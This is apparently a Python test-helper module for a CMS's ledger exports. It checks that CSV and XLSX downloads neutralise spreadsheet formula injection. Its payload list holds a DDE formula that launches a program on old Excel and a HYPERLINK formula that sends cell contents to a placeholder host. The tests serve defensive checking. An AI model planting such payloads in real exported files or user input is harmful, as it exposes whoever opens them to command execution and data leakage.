"""Formula-injection payloads and how to read a ledger back the way Excel/WPS would.

Shared by the three paths that hand ledgers to people: the ledger writers
(tests/export/test_ledger.py), the public downloads of the site export
(tests/export/test_downloads.py) and the admin ledger export
(tests/cms/ledger/test_exports.py).  Each puts every payload into every
text field an editor or a unit controls and checks every text column.
"""

from __future__ import annotations

import csv
import io
from typing import Any

import openpyxl
from openpyxl.utils.escape import unescape

from cms.ledger.models import Task, TaskProgress
from tests.factories import UnitFactory, make_attachment, make_notice, task_list

# What Excel/WPS (or LibreOffice) would evaluate, with what it does (OWASP "CSV injection").
FORMULA_PAYLOADS = [
    "=1+1",  # plain formula
    "=cmd|' /C calc'!A0",  # DDE: runs a program on old Excel
    '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',  # leaks a cell's content
    "@SUM(1+1)",  # Lotus-style formula
    "+1+1",
    "-1+1",
    "\t=1+1",  # tab before the formula
    "\r=1+1",  # carriage return before the formula
    "=1+1\n第二行",  # multi-line cell
]
# Leading whitespace before "=": Excel, WPS and LibreOffice read these as text
# (tests/export/test_libreoffice.py checks LibreOffice), so they stay as written.
LOOKALIKES = [" =1+1", "\u3000=1+1", "\u00a0@SUM(1+1)", "＝1+1"]
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def protected(text: str) -> str:
    """The cell text a ledger must contain for ``text``: an apostrophe before a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def csv_rows(data: bytes) -> list[dict[str, str]]:
    """A BOM CSV as Excel reads it: cells exactly as written, no type guessing."""
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(data: bytes) -> list[dict[str, Any]]:
    """The first sheet's rows as header → cell; asserts that no cell anywhere is a formula."""
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    formulas = [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert not formulas, f"formula cells: {formulas}"
    header = [unescape(cell.value) if isinstance(cell.value, str) else cell.value for cell in sheet[1]]
    assert all(isinstance(name, str) and not name.startswith(FORMULA_PREFIXES) for name in header), header
    return [
        {
            name: unescape(cell.value) if isinstance(cell.value, str) else cell.value
            for name, cell in zip(header, row, strict=True)
        }
        for row in sheet.iter_rows(min_row=2)
    ]


def assert_no_cell_starts_a_formula(rows: list[dict[str, Any]]) -> None:
    bad = [
        (name, value)
        for row in rows
        for name, value in row.items()
        if isinstance(value, str) and value.startswith(FORMULA_PREFIXES)
    ]
    assert not bad, bad


# --- a corpus with a payload in every text an editor or a unit writes -----------------

# Ledger columns that hold an editor's or a unit's text as written.
PAYLOAD_COLUMNS = (
    "文件标题",
    "专题/项目",
    "工作任务",
    "工作内容",
    "完成时限",
    "牵头单位",
    "责任单位（原文）",
    "进展说明",
)
DOC_NUMBER = "=1+1〔2024〕{n}号"  # the model validates 发文字号; a formula still fits its 机关代字


def hostile_corpus(parent, payloads: list[str]) -> None:
    """One published notice per payload; every text of it, its attachment, task, unit and progress is the payload."""
    for number, text in enumerate(payloads, start=1):
        unit = UnitFactory(name=text)
        notice = make_notice(parent, title=text, doc_number=DOC_NUMBER.format(n=number), publish_progress=True)
        row = {"topic": text, "task": text, "detail": text, "deadline": text, "units": [(unit, "lead")]}
        make_attachment(notice, title=text, body=[task_list([{**row, "units_text": text}])])
    for task in Task.objects.all():
        TaskProgress.objects.create(row_id=task.row_id, status="in_progress", note=task.task)


def _unprotected(value: str) -> str:
    return value[1:] if value.startswith("'") and value[1:].startswith(FORMULA_PREFIXES) else value


def check_ledger(rows: list[dict[str, Any]], payloads: list[str]) -> None:
    """No cell starts a formula, and each payload is in every text column, kept as written."""
    assert_no_cell_starts_a_formula(rows)
    by_task = {_unprotected(row["工作任务"]): row for row in rows}
    missing = [text for text in payloads if text not in by_task and text.strip() not in by_task]
    assert not missing, (missing, list(by_task))
    for text in payloads:
        row = by_task.get(text) or by_task[text.strip()]
        for column in PAYLOAD_COLUMNS:
            if column in row:
                assert row[column] in (protected(text), protected(text.strip())), (column, text, row[column])
        assert text.strip() in row["附件"], row["附件"]
        assert row["发文字号"].startswith("'=1+1〔2024〕"), row["发文字号"]
